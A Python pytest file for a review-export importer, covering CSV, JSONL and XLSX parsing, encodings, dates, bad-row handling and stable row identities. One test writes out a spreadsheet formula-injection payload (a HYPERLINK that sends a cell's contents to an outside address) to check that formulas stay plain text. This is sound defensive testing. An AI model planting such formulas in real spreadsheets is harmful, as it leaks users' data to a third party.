"""Exports as people hand them over: columns, encodings, dates, bad rows, identities."""

from __future__ import annotations

import csv
import gzip
import io
import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from collectors.file import File
from collectors.file.dates import read_date
from otklik.errors import ConfigError, InputError
from otklik.platforms import BadRow, CollectedMention, Page, build_platform

Write = Callable[..., Path]


@pytest.fixture
def write(tmp_path: Path) -> Write:
    def write_file(name: str, content: str | bytes) -> Path:
        path = tmp_path / name
        data = content.encode() if isinstance(content, str) else content
        path.write_bytes(gzip.compress(data) if name.endswith(".gz") else data)
        return path

    return write_file


def pages_of(path: Path, cursor: dict[str, Any] | None = None, **config: Any) -> list[Page]:
    platform = build_platform(File, {"path": str(path), **config}, source="import")
    return list(platform.collect(cursor or {}))


def read(path: Path, **config: Any) -> tuple[list[CollectedMention], list[BadRow]]:
    pages = pages_of(path, **config)
    mentions = [mention for page in pages for mention in page.mentions]
    return mentions, [row for page in pages for row in page.bad_rows]


def test_a_russian_export_is_understood_without_help(write: Write) -> None:
    path = write(
        "отзывы.csv",
        "\ufeffID;Автор;Дата;Оценка;Текст отзыва;Ссылка;Товар;Площадка;Тональность\r\n"
        "17;Анна;12.03.2024 14:05;4,5;Пришло\xa0вовремя;https://shop.example/r/17;Чайник;Озон;+\r\n",
    )
    (mention,), bad = read(path)
    assert bad == []
    assert mention.external_id == "отзывы/17"
    assert mention.author.name == "Анна"
    assert mention.published_at == datetime(2024, 3, 12, 11, 5, tzinfo=UTC)
    assert mention.rating == 4.5
    assert mention.text == "Пришло\xa0вовремя"
    assert mention.url == "https://shop.example/r/17"
    assert mention.thread.title == "Озон · Чайник"
    assert mention.original["Тональность"] == "+"


def test_an_english_export_is_understood_without_help(write: Write) -> None:
    path = write(
        "x.csv", "review_id,userName,createdAt,Stars,comment\na1,Bob,2024-03-12T14:05:00Z,5,Fine\n"
    )
    (mention,), _ = read(path)
    assert (mention.external_id, mention.author.name, mention.text) == ("x/a1", "Bob", "Fine")
    assert mention.published_at == datetime(2024, 3, 12, 14, 5, tzinfo=UTC)
    assert mention.rating == 5


def test_a_column_can_be_named_when_guessing_fails(write: Write) -> None:
    path = write("x.csv", "a,text\nнастоящий,служебный\n")
    (mention,), _ = read(path, columns={"text": "a"})
    assert mention.text == "настоящий"


def test_a_file_without_a_text_column_says_what_there_is(write: Write) -> None:
    path = write("x.csv", "foo,bar\n1,2\n")
    with pytest.raises(InputError, match=r"x\.csv:1: .*'foo', 'bar'.*columns"):
        read(path)
    with pytest.raises(InputError, match="no column 'baz'"):
        read(path, columns={"text": "baz"})


@pytest.mark.parametrize(
    "config",
    [{"columns": {"colour": "x"}}, {"timezone": "Mars/North"}, {"path": ""}, {"pfad": "x"}],
)
def test_a_wrong_setting_is_refused_at_start(config: dict[str, Any]) -> None:
    with pytest.raises(ConfigError):
        build_platform(File, {"path": "x.csv", **config}, source="import")


@pytest.mark.parametrize("mark", [",", ";", "\t", "|"])
def test_the_delimiter_is_found(write: Write, mark: str) -> None:
    path = write(
        "x.csv", mark.join(("id", "text")) + "\n" + mark.join(("1", "да, нет; вот")) + "\n"
    )
    if mark in ",;":
        path = write("x.csv", f'id{mark}text\n1{mark}"да, нет; вот"\n')
    assert [m.text for m in read(path)[0]] == ["да, нет; вот"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1251", "utf-16"])
@pytest.mark.parametrize("name", ["x.csv", "x.csv.gz", "x.tsv"])
def test_the_encoding_is_found(write: Write, encoding: str, name: str) -> None:
    path = write(name, "id\tтекст\n1\tЁлки, ужас «что» творится\n".encode(encoding))
    assert [m.text for m in read(path)[0]] == ["Ёлки, ужас «что» творится"]


def test_one_cp1251_line_in_a_utf8_file_is_read_as_such(write: Write) -> None:
    lines = ["id,текст", "1,Первый отзыв", "2,Второй отзыв", "3,Третий"]
    data = b"".join(
        (line + "\n").encode("cp1251" if line.startswith("2") else "utf-8") for line in lines
    )
    assert [m.text for m in read(write("x.csv", data))[0]] == [
        "Первый отзыв",
        "Второй отзыв",
        "Третий",
    ]


def test_a_bad_row_is_named_by_its_line_and_the_rest_goes_in(write: Write) -> None:
    path = write(
        "x.csv",
        'id,text\n1,"первая\nвторая\nтретья"\n2,лишняя,ячейка\n3,\n4,хорошая\n5\n6,"тоже\nхорошая"\n',
    )
    mentions, bad = read(path)
    assert [m.text for m in mentions] == ["первая\nвторая\nтретья", "хорошая", "тоже\nхорошая"]
    assert [row.place for row in bad] == ["x.csv:5", "x.csv:6", "x.csv:8"]
    assert "3 cells where the header has 2" in bad[0].reason
    assert bad[1].reason == "no text"
    assert bad[0].raw == "2,лишняя,ячейка\n"


def test_a_quote_that_is_never_closed_costs_one_row(write: Write) -> None:
    rows = "".join(f"{n},отзыв {n}\n" for n in range(3, 50))
    mentions, bad = read(write("x.csv", f'id,text\n1,хорошо\n2,"без конца\n{rows}'))
    assert len(mentions) == 48
    assert [(row.place, row.reason) for row in bad] == [("x.csv:3", "a quote is never closed")]


def test_a_bad_line_of_jsonl_is_named_and_the_rest_goes_in(write: Write) -> None:
    path = write(
        "x.jsonl",
        '{"id": 1}\n{"id": 2, "text": "два"}\n\n{oops\n[1]\n{"id": 3, "text": null}\n'
        '{"id": 4, "text": "че\\u0000тыре", "author": {"name": "Анна"}, "new": [1]}\n',
    )
    mentions, bad = read(path)
    assert [(m.external_id, m.text) for m in mentions] == [("x/2", "два"), ("x/4", "четыре")]
    assert mentions[1].author.name == "Анна"
    assert [row.place for row in bad] == [f"x.jsonl:{line}" for line in (1, 4, 5, 6)]


def test_jsonl_without_any_text_says_so_in_the_end(write: Write) -> None:
    with pytest.raises(InputError, match="no column looks like the text"):
        read(write("x.jsonl", '{"id": 1}\n{"id": 2}\n'))
    with pytest.raises(InputError, match="JSON array"):
        read(write("y.json", '[\n{"text": "один"}\n]\n'))


def test_blank_lines_before_and_between_rows_are_no_rows(write: Write) -> None:
    mentions, bad = read(write("x.csv", "\n\nid;text\n\n1;один\n\n2;два;лишнее\n"))
    assert [m.text for m in mentions] == ["один"]
    assert [row.place for row in bad] == ["x.csv:7"]


def test_an_id_used_twice_is_quarantined_instead_of_looking_like_an_edit(write: Write) -> None:
    mentions, bad = read(write("x.csv", "id,text\n1,один\n1,другой\n"))
    assert [m.text for m in mentions] == ["один"]
    assert "line 2 already" in bad[0].reason


def test_formulas_are_just_text(write: Write, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://10.0.0.1/?x="&A1)'
    quoted = formula.replace('"', '""')
    assert read(write("x.csv", f'text\n"{quoted}"\n'))[0][0].text == formula
    book = Workbook()
    book.active.append(["Отзыв"])  # type: ignore[union-attr]
    book.active.append([formula])  # type: ignore[union-attr]
    book.save(tmp_path / "x.xlsx")
    assert read(tmp_path / "x.xlsx")[0][0].text == formula


def test_a_workbook_is_read_with_its_dates_and_numbers(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([])
    sheet.append(["Номер отзыва", "Дата", "Звёзды", "Комментарий", None])
    sheet.append([17.0, datetime(2024, 3, 12, 14, 5), 4, "Хороший чайник"])  # noqa: DTZ001
    sheet.append([18, "13 марта 2024 г.", "★★☆", None])
    sheet.append([19, None, "5/5", 404])
    book.save(tmp_path / "x.xlsx")
    mentions, bad = read(tmp_path / "x.xlsx")
    assert [(m.external_id, m.text) for m in mentions] == [
        ("x/17", "Хороший чайник"),
        ("x/19", "404"),
    ]
    assert mentions[0].published_at == datetime(2024, 3, 12, 11, 5, tzinfo=UTC)
    assert [m.rating for m in mentions] == [4, 5]
    assert [row.place for row in bad] == ["x.xlsx:4"]


@pytest.mark.parametrize("name", ["x.xlsx", "x.csv.gz", "x.docx", "absent.csv"])
def test_a_file_that_is_not_what_its_name_says_is_an_input_error(tmp_path: Path, name: str) -> None:
    if name != "absent.csv":
        data = gzip.compress(b"text\n" + b"otzyv\n" * 5000)[:-30] if "gz" in name else b"nonsense"
        (tmp_path / name).write_bytes(data)
    with pytest.raises(InputError, match=name):
        read(tmp_path / name)


def test_pros_and_cons_become_parts_of_one_text(write: Write) -> None:
    path = write("x.csv", "Достоинства;Недостатки;Комментарий\nдешёвый;шумит;\n;;Пойдёт\n")
    assert [m.text for m in read(path)[0]] == [
        "Достоинства: дешёвый\nНедостатки: шумит",
        "Комментарий: Пойдёт",
    ]


def test_labels_of_a_file_stay_in_original(write: Write) -> None:
    path = write("x.jsonl", '{"text": "ужас", "stance": "hater", "toxic": 1, "topic": "price"}\n')
    (mention,), _ = read(path)
    assert dict(mention.original) == {"stance": "hater", "toxic": 1, "topic": "price", "ordinal": 0}


def test_rows_without_date_have_no_date_and_unreadable_dates_are_noted(write: Write) -> None:
    path = write("x.csv", "дата,текст\n,без даты\nвчера вечером,с вечером\n")
    mentions, _ = read(path)
    assert [m.published_at for m in mentions] == [None, None]
    assert mentions[1].original["unreadable_date"] == "вчера вечером"


ROWS = "Анна,хорошо\nБорис,плохо\nАнна,хорошо\n"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("again.csv", "author,text\n" + ROWS),
        ("renamed.csv", "Автор,Отзыв\n" + ROWS),
        ("longer.csv", "author,text\n" + ROWS + "Вера,новое\n"),
        ("newest_first.csv", "author,text\nВера,новое\n" + ROWS),
        ("reordered.csv", "text,author\nхорошо,Анна\nхорошо,Анна\nплохо,Борис\n"),
    ],
)
def test_rows_without_id_keep_their_identity(write: Write, name: str, content: str) -> None:
    first = {m.external_id for m in read(write("first.csv", "author,text\n" + ROWS))[0]}
    again = {m.external_id for m in read(write(name, content))[0]}
    assert len(first) == 3
    assert first <= again
    assert len(again - first) == content.count("Вера")


def test_a_named_dataset_keeps_equal_rows_apart(write: Write) -> None:
    path = write("x.csv", "text\nхорошо\n")
    ids = {read(path, dataset=name)[0][0].external_id for name in ("", "A", "B")}
    assert len(ids) == 3


def test_every_row_without_a_thread_stands_for_itself(write: Write) -> None:
    path = write("x.csv", "id,parent,text\n1,,вопрос\n2,1,ответ\n3,,другой\n")
    mentions, _ = read(path)
    assert [m.thread.external_id for m in mentions] == ["x/1", "x/1", "x/3"]
    assert [m.parent_external_id for m in mentions] == [None, "x/1", None]


def test_reading_goes_on_after_the_rows_of_the_cursor(
    write: Write, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(File, "PAGE_ROWS", 10)
    path = write("x.csv", "text\n" + "одинаково\n" * 25)
    whole = pages_of(path)
    assert [len(page.mentions) for page in whole] == [10, 10, 5]
    assert [page.cursor["row"] for page in whole] == [10, 20, 25]
    rest = pages_of(path, whole[0].cursor)
    assert [p.mentions for p in rest] == [p.mentions for p in whole[1:]]
    assert [p.mentions for p in pages_of(path, {"row": 20})] == [whole[2].mentions]
    assert pages_of(path, whole[-1].cursor) == []


def test_a_file_that_grew_is_read_again_and_known_rows_stay_the_same(write: Write) -> None:
    path = write("x.csv", "text\nодин\n")
    (first,) = pages_of(path)
    path = write("x.csv", "text\nодин\nдва\n")
    (again,) = pages_of(path, first.cursor)
    assert again.mentions[0] == first.mentions[0]
    assert again.mentions[1].text == "два"


def test_long_names_and_numbers_still_fit_and_stay_distinct(write: Write) -> None:
    numbers = ["9" * 290 + tail for tail in "ab"]
    rows = "".join(f"{n},{'Анна' * 70}{n[-1]},{'Чайник' * 40},отзыв\n" for n in numbers)
    mentions, bad = read(write("x.csv", "id,author,product,text\n" + rows))
    assert bad == []
    for ids in (
        {m.external_id for m in mentions},
        {m.author.external_id for m in mentions},
    ):
        assert len(ids) == 2
        assert max(map(len, ids)) <= 255
    assert len(mentions[0].thread.external_id) <= 255


def test_progress_rises_to_one(write: Write) -> None:
    shares = [page.progress or 0 for page in pages_of(write("x.csv", "text\n" + "отзыв\n" * 3500))]
    assert shares == sorted(shares)
    assert (len(shares), shares[-1]) == (4, 1.0)


def test_the_check_tells_how_columns_are_understood(write: Write) -> None:
    path = write("x.csv", "Отзыв,Дата\nхорошо,12.03.2024\n,\n")
    check = build_platform(File, {"path": str(path)}, source="import").check()
    assert check.ok
    assert "1 of the first 2 rows" in check.message
    assert "text ← Отзыв" in check.message
    assert check.newest_at == datetime(2024, 3, 11, 21, tzinfo=UTC)


@pytest.mark.parametrize(
    ("written", "moment"),
    [
        ("12 марта 2024 г., 14:05", (12, 11, 5)),
        ("12 марта 2024 года в 14:05", (12, 11, 5)),
        ("12 мар. 2024, 14:05:59", (12, 11, 5)),
        ("вторник, 12 марта 2024", (11, 21, 0)),
        ("12.03.2024", (11, 21, 0)),
        ("12.03.24 14:05", (12, 11, 5)),
        ("12/03/2024, 14:05", (12, 11, 5)),
        ("03/13/2024", (12, 21, 0)),
        ("2024-03-12 14:05", (12, 11, 5)),
        ("2024-03-12T14:05:00+00:00", (12, 14, 5)),
        ("2024-03-12T14:05:00.123Z", (12, 14, 5)),
        ("2024/03/12 14:05", (12, 11, 5)),
        ("March 12, 2024 2:05 PM", (12, 11, 5)),
        ("12 March 2024", (11, 21, 0)),
        ("Tue, 12 Mar 2024 14:05:00 +0300", (12, 11, 5)),
        ("Tue Mar 12 14:05:00 +0000 2024", (12, 14, 5)),
        ("1710252300", (12, 14, 5)),
        (1710252300.0, (12, 14, 5)),
        ("1710252300000", (12, 14, 5)),
    ],
)
def test_dates_are_read_as_they_are_written(written: object, moment: tuple[int, int, int]) -> None:
    from zoneinfo import ZoneInfo

    day, hour, minute = moment
    found = read_date(written, ZoneInfo("Europe/Moscow"))
    assert found is not None
    assert found.replace(second=0, microsecond=0) == datetime(
        2024, 3, day, hour, minute, tzinfo=UTC
    )


@pytest.mark.parametrize(
    "written", ["", "вчера", "32.13.2024", "17", "0001-01-01", "9" * 30, "5 лет"]
)
def test_what_is_no_date_stays_none(written: str) -> None:
    assert read_date(written, UTC) is None


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(texts=st.lists(st.text(min_size=1, max_size=60), max_size=20), kind=st.sampled_from("cj"))
def test_no_row_is_lost_or_doubled_whatever_it_holds(
    texts: list[str], kind: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    texts = [text.encode("utf-8", "replace").decode() for text in texts]
    buffer = io.StringIO()
    if kind == "c":
        csv.writer(buffer).writerows([["text", "n"], *([text, "x"] for text in texts)])
    else:
        buffer.writelines(json.dumps({"text": text, "n": "x"}) + "\n" for text in texts)
    path = tmp_path_factory.mktemp("rows") / ("x.csv" if kind == "c" else "x.jsonl")
    path.write_bytes(buffer.getvalue().encode())
    mentions, bad = read(path, delimiter=",")
    assert len(mentions) + len(bad) == len(texts)
    assert len({m.external_id for m in mentions}) == len(mentions)
    assert all(row.reason == "no text" for row in bad)
